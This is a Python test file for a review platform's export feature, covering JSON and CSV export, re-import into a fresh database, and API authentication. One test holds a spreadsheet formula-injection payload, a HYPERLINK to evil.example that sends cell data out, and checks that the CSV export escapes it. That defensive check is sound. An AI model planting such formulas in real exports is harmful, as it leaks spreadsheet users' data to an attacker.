"""`socialproof export` and the export API: every review out, and back in elsewhere looking the same."""

from __future__ import annotations

import csv
import io
import json
from contextlib import closing

from click.testing import CliRunner

from socialproof.app import create_app
from socialproof.cli import cli
from socialproof.config import Settings
from socialproof.db.store import open_migrated, transaction
from socialproof.reviews import replies
from socialproof.shops.registry import require_shop
from tests.client import TestClient
from tests.portability import exports
from tests.support import Shops, approve, post_review, text


def run(path, *args):
    done = CliRunner().invoke(cli, [*args, "--db", str(path)])
    assert done.exit_code == 0, done.output
    return done.output


def a_shop_with_history(client, shops, tmp_path):
    first = post_review(client, rating=5, title="Paras", body="Aamun paras hetki", author_name="Aino")["id"]
    approve(client, shops, first)
    with closing(open_migrated(shops.path)) as db, transaction(db):
        replies.set_reply(db, require_shop(db, "kahvi"), first, "Kiitos, Aino!", "mod@kahvi.example")
    approve(client, shops, post_review(client, rating=1, title="Ei", body="Liian hapan", author_name="Eero")["id"])
    post_review(client, rating=3, body="Odottaa vielä")  # pending: only with --include-unpublished
    (tmp_path / "yotpo.csv").write_bytes(exports.YOTPO)
    run(shops.path, "import", "kahvi", str(tmp_path / "yotpo.csv"))


def test_the_export_holds_every_review_with_its_status_reply_and_provenance(client, shops, tmp_path):
    a_shop_with_history(client, shops, tmp_path)
    published = [json.loads(line) for line in run(shops.path, "export", "kahvi").splitlines()]
    everything = [json.loads(line) for line in run(shops.path, "export", "kahvi", "--include-unpublished").splitlines()]
    assert len(published) == 4 and len(everything) == 6
    assert {r["status"] for r in published} == {"approved"} and all(
        r["schema"] == "socialproof.review/1" for r in published
    )
    (paras,) = [r for r in published if r["title"] == "Paras"]
    assert paras["reply"]["body"] == "Kiitos, Aino!" and paras["source"] == "web" and paras["product"] == "P1"
    (sara,) = [r for r in published if r["author_name"] == "Sara L"]
    assert sara["source"] == "import:yotpo" and sara["source_id"] == "9001" and sara["verified_at_source"] is True
    table = list(csv.DictReader(io.StringIO(run(shops.path, "export", "kahvi", "--format", "csv"))))
    assert len(table) == 4 and {row["reply_body"] for row in table} >= {"Kiitos, Aino!"}


def test_the_csv_export_hands_spreadsheets_text_never_formulas_and_json_lines_stay_exact(client, shops):
    formula = '=HYPERLINK("http://evil.example/?d="&N2,"Click")'
    fields = {"title": formula, "body": "+SUM(1,2)", "author_name": "@Anni", "email": "anni@example.fi"}
    approve(client, shops, post_review(client, **fields)["id"])
    (row,) = csv.DictReader(io.StringIO(run(shops.path, "export", "kahvi", "--format", "csv")))
    assert (row["title"], row["body"], row["author_name"]) == ("'" + formula, "'+SUM(1,2)", "'@Anni")
    (record,) = [json.loads(line) for line in run(shops.path, "export", "kahvi").splitlines()]
    assert (record["title"], record["body"], record["author_name"]) == (formula, "+SUM(1,2)", "@Anni")


def test_a_round_trip_to_a_fresh_instance_shows_the_same_widgets_and_summaries(client, shops, tmp_path):
    a_shop_with_history(client, shops, tmp_path)
    exported = tmp_path / "kahvi.jsonl"
    exported.write_text(run(shops.path, "export", "kahvi", "--include-unpublished"))
    key = run(shops.path, "key", "public").strip()  # the exporting server's: its records keep their sources
    fresh = Shops.on_new_database(tmp_path / "fresh.db")
    fresh.create("kahvi", "Kahvi Oy")
    run(fresh.path, "import", "kahvi", str(exported), "--trust-key", key)
    assert "0 reviews" in run(fresh.path, "import", "kahvi", str(exported), "--trust-key", key)  # and once only
    with TestClient(create_app(Settings(db_path=fresh.path))) as moved:
        for product in ("P1", "77"):
            path = f"/api/v1/shops/kahvi/products/{product}/summary"
            assert moved.get(path).json() == client.get(path).json()
            widget = f"/w/kahvi/reviews?product={product}&lang=fi"
            assert text(moved.get(widget).text) == text(client.get(widget).text)
    assert fresh.sql("SELECT count(*) AS n FROM reviews WHERE status = 'pending'") == [{"n": 2}]


def test_the_export_api_streams_for_the_merchant_key_only(client, shops, tmp_path):
    a_shop_with_history(client, shops, tmp_path)
    assert client.get("/api/v1/shops/kahvi/export").status_code == 401
    answer = client.get("/api/v1/shops/kahvi/export?format=csv", headers=shops.auth("kahvi"))
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert 'filename="kahvi-reviews.csv"' in answer.headers["content-disposition"]
    assert len(list(csv.DictReader(io.StringIO(answer.text)))) == 4
    wrong = client.get("/api/v1/shops/kahvi/export?format=xml", headers=shops.auth("kahvi"))
    assert wrong.status_code == 422 and set(wrong.json()) == {"error", "errors"} and "format" in wrong.json()["errors"]
